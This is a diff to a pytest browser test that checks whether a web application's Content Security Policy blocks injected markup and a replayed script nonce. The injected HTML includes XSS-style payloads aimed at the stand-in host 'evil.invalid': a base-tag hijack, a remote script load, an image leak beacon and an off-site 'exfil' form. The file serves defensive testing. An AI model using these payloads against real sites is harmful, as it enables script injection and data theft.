@@ -20,17 +20,11 @@ import pytest
 
 from tests.browser.test_xss_browser import DOM_CHECK
 from tests.content.xss_payloads import PAYLOADS, SET
-from tests.support.browser import sign_in
+from tests.support.browser import CSP_LISTENER, inject_markup, sign_in
 
 pytestmark = pytest.mark.browser
 
 EVIL = "evil.invalid"
-# Records every violation the page itself sees (an init script runs outside the page's CSP).
-CSP_LISTENER = """
-window.__csp = [];
-document.addEventListener('securitypolicyviolation',
-  e => window.__csp.push(e.effectiveDirective), true);
-"""
 # Markup left open so that, unescaped, it swallows the page after it (<plaintext>, <textarea>,
 # comments) or sends it off in a URL (dangling markup); plus encoded script schemes.
 DANGLING = [
@@ -249,47 +243,42 @@ def test_csp_blocks_each_injection_and_a_replayed_nonce(live_server, page) -> No
     with live.app.app_context():
         article_id = ArticleFactory().id
     pg, watch = page
+    watch.violations_expected = True
     pg.add_init_script(CSP_LISTENER)
     url = f"{live.url}/articles/{article_id}"
     earlier = _nonce(pg.goto(url))
+
+    # As if markup had slipped past escaping, in the HTML the browser receives under the
+    # server's own headers: each element tests one directive.
+    def hostile(response: Any) -> dict[str, str]:
+        current = _nonce(response)
+        return {
+            "</head>": (
+                f'<base href="http://{EVIL}/">'
+                f'<style nonce="{earlier}">#main {{ color: rgb(4, 5, 6) }}</style>'
+            ),
+            "</article>": (
+                f'<script nonce="{earlier}">window.__xss = "replayed nonce"</script>'
+                '<script>window.__xss = "no nonce"</script>'
+                f'<script nonce="{current}">window.__fresh = 1</script>'  # control: it runs
+                f'<script src="http://{EVIL}/x.js"></script>'
+                '<p id="styled" style="color: rgb(1, 2, 3)">x</p>'
+                '<iframe src="/"></iframe>'
+                '<object data="/static/favicon.svg" type="image/svg+xml"></object>'
+                f'<img src="http://{EVIL}/leak?">'
+                f'<form id="exfil" action="http://{EVIL}/" method="post">'
+                '<input name="x" value="y"></form>'
+            ),
+        }
+
+    inject_markup(pg, url, hostile)
     current = _nonce(pg.goto(url))
     assert earlier != current
-    # As if markup had slipped past escaping: each element tests one directive.
-    result = pg.evaluate(
-        """([earlier, current, evil]) => {
-          const prose = document.querySelector('.prose');
-          const add = (html) => prose.insertAdjacentHTML('beforeend', html);
-          const base = document.createElement('base');
-          base.href = 'http://' + evil + '/';
-          document.head.prepend(base);
-          const script = (nonce, code) => {
-            const s = document.createElement('script');
-            s.setAttribute('nonce', nonce);
-            s.textContent = code;
-            document.body.appendChild(s);
-          };
-          script(earlier, 'window.__xss = "replayed nonce"');
-          script('', 'window.__xss = "no nonce"');
-          script(current, 'window.__fresh = 1');  // control: the real nonce does run
-          const remote = document.createElement('script');
-          remote.src = 'http://' + evil + '/x.js';
-          document.body.appendChild(remote);
-          add('<p id="styled" style="color: rgb(1, 2, 3)">x</p>');
-          const css = document.createElement('style');
-          css.setAttribute('nonce', earlier);
-          css.textContent = '#main { color: rgb(4, 5, 6) }';
-          document.head.appendChild(css);
-          add('<iframe src="/"></iframe>');
-          add('<object data="/static/favicon.svg" type="image/svg+xml"></object>');
-          add('<img src="http://' + evil + '/leak?">');
-          add('<form id="exfil" action="http://' + evil + '/" method="post">' +
-              '<input name="x" value="y"></form>');
-          const link = document.createElement('a');
-          link.href = 'relative';
-          return {base: document.baseURI, link: link.href};
-        }""",
-        [earlier, current, EVIL],
-    )
+    result = pg.evaluate("""() => {
+      const link = document.createElement('a');
+      link.href = 'relative';
+      return {base: document.baseURI, link: link.href};
+    }""")
     pg.evaluate("document.getElementById('exfil').requestSubmit()")
     pg.wait_for_timeout(500)
     assert pg.url == url  # the form did not leave the site
